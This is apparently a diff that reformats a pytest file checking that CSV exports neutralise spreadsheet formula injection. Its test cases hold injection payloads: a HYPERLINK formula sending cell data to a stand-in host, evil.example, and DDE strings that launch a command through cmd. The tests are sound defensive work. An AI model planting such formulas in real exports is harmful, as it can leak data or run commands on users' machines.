@@ -29,7 +29,10 @@ ALLOWED = {
 @pytest.mark.parametrize(
     ("cell", "shown"),
     [
-        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"click")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        ),
         ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
         ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
         ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
@@ -59,7 +62,9 @@ def test_no_csv_is_written_but_through_the_helper():
             for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
                 if pattern.search(line):
                     offenders.append(f"{rel}:{n}: {line.strip()}")
-    assert offenders == [], "write CSV through intel.csvsafe (csv_writer, frame_to_csv):\n" + "\n".join(offenders)
+    assert offenders == [], "write CSV through intel.csvsafe (csv_writer, frame_to_csv):\n" + "\n".join(
+        offenders
+    )
 
 
 def test_the_rejects_file_neutralises_formulas(engine, settings, tmp_path):
